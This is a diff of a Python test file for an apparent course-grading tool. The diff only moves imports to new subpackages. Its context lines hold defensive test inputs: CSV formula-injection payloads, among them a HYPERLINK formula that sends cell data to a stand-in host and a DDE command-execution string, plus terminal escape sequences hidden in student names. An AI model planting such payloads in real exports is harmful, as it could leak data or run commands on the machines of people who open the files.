@@ -9,7 +9,7 @@ import unicodedata
 
 import pytest
 
-from tinytorch.course.untrusted_text import csv_cell, csv_row, csv_value, printable
+from tinytorch.course.basics.untrusted_text import csv_cell, csv_row, csv_value, printable
 
 FORMULAS = ['=1+2', '=HYPERLINK("http://e.test/?"&A1,"open")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1:A9)',
             '-', '+', '@', '=', '\uff1d1+2', '-1e5x', "'=1", "''@x"]
@@ -87,8 +87,8 @@ def test_a_file_name_that_is_not_utf8_prints():
 
 
 def test_the_grades_csv_quotes_a_formula_folder_and_reads_it_back(tmp_path):
-    from tinytorch.course.grade_table import Part, StudentResult, read_grades_csv, write_grades_csv, write_grading_log
-    from tinytorch.course.shards import merge_grade_csvs
+    from tinytorch.course.grading.grade_table import Part, StudentResult, read_grades_csv, write_grades_csv, write_grading_log
+    from tinytorch.course.grading.shards import merge_grade_csvs
     results = [StudentResult(name, {'test_a': Part('test_a', 'test', 2.0)}, failure=f"folder name {name!r} is not a valid student id")
                for name in ('=1+2', '@SUM(1)', '\x1b[1A\x1b[2Kmallory')]
     path = write_grades_csv(results, tmp_path / 'grades.csv', '11_embeddings')
@@ -104,8 +104,8 @@ def test_the_grades_csv_quotes_a_formula_folder_and_reads_it_back(tmp_path):
 
 def test_final_grades_and_exports_quote_formulas_and_canvas_still_matches(tmp_path):
     from lms_importers import read_canvas_import
-    from tinytorch.course.final_grades import write_final_grades
-    from tinytorch.course.lms import Roster, Student, write_export
+    from tinytorch.course.results.final_grades import write_final_grades
+    from tinytorch.course.results.lms import Roster, Student, write_export
     rows = [{'student': 'mallory', 'q1': '2', 'autograded_total': '0', 'manual_total': '2', 'total': '2', 'max_points': '4',
              'status': 'complete', 'details': '=1+2', 'timestamp': '', 'seconds_late': '', 'raw_total': '2',
              'late_penalty': '-0.5'}]
@@ -124,9 +124,9 @@ def test_final_grades_and_exports_quote_formulas_and_canvas_still_matches(tmp_pa
 
 
 def test_a_grade_line_and_the_roster_lines_escape_controls():
-    from tinytorch.course.grade_table import StudentResult
-    from tinytorch.course.grading import _result_line
-    from tinytorch.course.lms import Roster, Student, roster_mismatches
+    from tinytorch.course.grading.grade_table import StudentResult
+    from tinytorch.course.grading.grading import _result_line
+    from tinytorch.course.results.lms import Roster, Student, roster_mismatches
     name = '\x1b[1A\x1b[2K\rmallory'
     line = _result_line(StudentResult(name, {}, failure=f"folder name {name!r} is not a valid student id"))
     assert '\x1b' not in line and '\r' not in line and line.lstrip().startswith('\\x1b[1A'), repr(line)
